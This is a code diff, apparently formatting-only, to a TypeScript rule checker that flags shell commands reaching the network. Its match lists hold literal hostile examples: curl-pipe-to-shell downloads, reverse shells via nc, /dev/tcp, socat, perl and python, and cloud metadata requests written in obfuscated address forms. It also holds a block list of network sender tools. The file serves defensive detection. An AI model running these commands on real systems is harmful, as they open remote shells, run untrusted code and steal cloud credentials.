@@ -11,7 +11,8 @@ const networkPrograms = new Set(
   ).split(' '),
 )
 
-const senders = /^(curl|wget2?|nc|ncat|netcat|socat|telnet|ftp|https?|xh|mailx?|mutt|sendmail|msmtp|openssl|ntfy|termbin|pastebinit|websocat|wscat|ssh|tftp|dig|nslookup|host|ping|rclone|aws|gsutil)$/
+const senders =
+  /^(curl|wget2?|nc|ncat|netcat|socat|telnet|ftp|https?|xh|mailx?|mutt|sendmail|msmtp|openssl|ntfy|termbin|pastebinit|websocat|wscat|ssh|tftp|dig|nslookup|host|ping|rclone|aws|gsutil)$/
 
 /** Whether a program talks to other machines. */
 export function reachesNetwork(program: string): boolean {
@@ -34,19 +35,27 @@ export const networkRules: Record<string, NetworkRule> = {
     holds: ({ runs }) =>
       runs.some(
         (target) =>
-          takesCode(target) &&
-          runs.some((source) => isDownload(source) && feeds(source, target)),
+          takesCode(target) && runs.some((source) => isDownload(source) && feeds(source, target)),
       ),
     match: [
-      ...['curl https://example.org/x | sh', 'wget -qO- https://example.org/x | sudo bash -s -- -y'],
+      ...[
+        'curl https://example.org/x | sh',
+        'wget -qO- https://example.org/x | sudo bash -s -- -y',
+      ],
       ...['sh -c "$(curl -fsSL https://example.org/x)"', 'bash <(curl https://example.org/x)'],
-      ...['eval "$(wget -qO- https://example.org/x)"', 'curl https://example.org/x | tee x | python3 -'],
+      ...[
+        'eval "$(wget -qO- https://example.org/x)"',
+        'curl https://example.org/x | tee x | python3 -',
+      ],
       ...['. <(curl https://example.org/x)', 'curl -s https://example.org/x | base64 -d | bash'],
       ...['bash <<< "$(curl https://example.org/x)"', 'nc example.org 1 | sh'],
     ],
     not: [
       ...['curl https://example.org/x | jq .', 'curl https://example.org/x | python -m json.tool'],
-      ...['curl -o x.json https://example.org/x && node use.js', 'curl x | node -e "process.exit()"'],
+      ...[
+        'curl -o x.json https://example.org/x && node use.js',
+        'curl x | node -e "process.exit()"',
+      ],
       ...['curl x | grep sh', 'bash build.sh && curl example.org'],
     ],
   },
@@ -68,9 +77,20 @@ export const networkRules: Record<string, NetworkRule> = {
     reason: 'it hands a shell to another machine',
     holds: ({ runs }) => runs.some((run) => givesShell(run, runs)),
     match: [
-      ...['nc -e /bin/sh example.org 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -lvp 1 -e sh'],
-      ...['ncat --sh-exec "bash" example.org 1', 'socat tcp:example.org:1 exec:bash', 'exec 3<>/dev/tcp/a/1'],
-      ...['mkfifo f; cat f | sh -i 2>&1 | nc example.org 1 > f', 'socat TCP-LISTEN:1 EXEC:/bin/sh,pty'],
+      ...[
+        'nc -e /bin/sh example.org 4444',
+        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+        'nc -lvp 1 -e sh',
+      ],
+      ...[
+        'ncat --sh-exec "bash" example.org 1',
+        'socat tcp:example.org:1 exec:bash',
+        'exec 3<>/dev/tcp/a/1',
+      ],
+      ...[
+        'mkfifo f; cat f | sh -i 2>&1 | nc example.org 1 > f',
+        'socat TCP-LISTEN:1 EXEC:/bin/sh,pty',
+      ],
       ...['cat < /dev/tcp/10.0.0.1/80', 'echo x > /dev/udp/10.0.0.1/53'],
       ...['perl -e \'use Socket;socket(S,1,2,3);exec("/bin/sh -i")\'', 'sh | nc example.org 1'],
       ...['python -c \'import socket,pty;s=socket.socket();pty.spawn("sh")\''],
@@ -96,7 +116,10 @@ export const networkRules: Record<string, NetworkRule> = {
     reason: 'it asks the cloud for the keys of this machine',
     holds: ({ runs }) => runs.some((run) => words(run).some((word) => isMetadata(word))),
     match: [
-      ...['curl http://169.254.169.254/latest/meta-data/', 'wget http://metadata.google.internal/x'],
+      ...[
+        'curl http://169.254.169.254/latest/meta-data/',
+        'wget http://metadata.google.internal/x',
+      ],
       ...['curl http://[fd00:ec2::254]/x', 'curl http://2852039166/', 'curl http://0xA9FEA9FE/'],
       ...['curl http://0251.0376.0251.0376/x', 'curl 100.100.100.200/latest'],
     ],
@@ -111,7 +134,8 @@ function takesCode(run: Run): boolean {
   const command = given.findIndex((word) => /^-[a-z]*c$/.test(word))
   if (command !== -1) return given[command + 1]?.includes('\0') === true
   if (/^(xargs|parallel)$/.test(run.program)) return given.some((word) => isInterpreter(word))
-  if (given.some((word) => /^(-e|-m|-p|-r|--eval|--print|-ne|-pe|-lane|-ane)$/.test(word))) return false
+  if (given.some((word) => /^(-e|-m|-p|-r|--eval|--print|-ne|-pe|-lane|-ane)$/.test(word)))
+    return false
   const operands = given.filter((word) => !word.startsWith('-') || word === '-')
   if (given.includes('-s') || operands.length === 0) return true
   return /^(-|\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0|\0.*)$/.test(operands[0] ?? '')
@@ -125,11 +149,14 @@ function isDownload(run: Run): boolean {
 
 function isDecoder(run: Run): boolean {
   const given = words(run).join(' ')
-  if (/^(base64|base32|basenc|gbase64)$/.test(run.program)) return /(^| )(-[a-z]*d|-D|--d\S*)( |$)/i.test(given)
+  if (/^(base64|base32|basenc|gbase64)$/.test(run.program))
+    return /(^| )(-[a-z]*d|-D|--d\S*)( |$)/i.test(given)
   if (run.program === 'xxd') return /(^| )-[a-z]*r/.test(given)
   if (run.program === 'openssl') return /(^| )(-d|-decrypt|base64)( |$)/.test(given)
   if (run.program === 'tr') return given.length > 0
-  return /^(rev|uudecode|gunzip|zcat|bzcat|xzcat|zstdcat|unxz|gpg|age|ascii2uni|hxunent|iconv)$/.test(run.program)
+  return /^(rev|uudecode|gunzip|zcat|bzcat|xzcat|zstdcat|unxz|gpg|age|ascii2uni|hxunent|iconv)$/.test(
+    run.program,
+  )
 }
 
 function givesShell(run: Run, runs: readonly Run[]): boolean {
@@ -138,12 +165,18 @@ function givesShell(run: Run, runs: readonly Run[]): boolean {
   if ([...run.writes, ...run.reads].some((path) => /^\/dev\/(tcp|udp)\//i.test(path))) return true
   if (/^(nc|ncat|netcat)$/.test(run.program)) {
     if (given.some((word) => /^(-[a-z]*[ec]|--exec|--sh-exec|--lua-exec)$/.test(word))) return true
-    return runs.some((other) => runsItsInput(other.program) && feeds(other, run) && other !== run && !isLanguage(other))
+    return runs.some(
+      (other) =>
+        runsItsInput(other.program) && feeds(other, run) && other !== run && !isLanguage(other),
+    )
   }
   if (run.program === 'telnet') return runs.some((other) => takesCode(other) && feeds(other, run))
   if (run.program === 'socat') return /\b(exec|system|shell):/i.test(text)
   if (!isLanguage(run)) return false
-  return /socket|tcpsocket|fsockopen|net\.connect|net\.socket|inet/i.test(text) && /\/bin\/|exec|spawn|system|dup2|pty|popen|subprocess|child_process/i.test(text)
+  return (
+    /socket|tcpsocket|fsockopen|net\.connect|net\.socket|inet/i.test(text) &&
+    /\/bin\/|exec|spawn|system|dup2|pty|popen|subprocess|child_process/i.test(text)
+  )
 }
 
 function isLanguage({ program }: Run): boolean {
@@ -155,15 +188,24 @@ function showsEnvironment(run: Run): boolean {
   if (run.program === 'env') return given.every((word) => word.startsWith('-'))
   if (run.program === 'printenv') return true
   if (run.program === 'set') return given.length === 0
-  return /^(export|declare|typeset|compgen)$/.test(run.program) && given.every((word) => /^-[pxveA-Z]+$/.test(word))
+  return (
+    /^(export|declare|typeset|compgen)$/.test(run.program) &&
+    given.every((word) => /^-[pxveA-Z]+$/.test(word))
+  )
 }
 
 /** Whether a text names the address where clouds keep the keys of a machine. */
 export function isMetadata(text: string): boolean {
-  if (/metadata\.google|metadata\.goog|instance-data|fd00:ec2|::ffff:a9fe|169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|169\.254\.\d+\.\d+\.(nip|xip|sslip)\.io/i.test(text)) {
+  if (
+    /metadata\.google|metadata\.goog|instance-data|fd00:ec2|::ffff:a9fe|169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|169\.254\.\d+\.\d+\.(nip|xip|sslip)\.io/i.test(
+      text,
+    )
+  ) {
     return true
   }
-  return /\/\/(2852039166|0xa9fea9fe|0?25177524776|0*251\.0*376\.0*251\.0*376|0xa9\.0xfe\.0xa9\.0xfe|169\.254\.43518|169\.16689662)\b/i.test(text)
+  return /\/\/(2852039166|0xa9fea9fe|0?25177524776|0*251\.0*376\.0*251\.0*376|0xa9\.0xfe\.0xa9\.0xfe|169\.254\.43518|169\.16689662)\b/i.test(
+    text,
+  )
 }
 
 /** Why a command line may not talk to other machines, or null. */
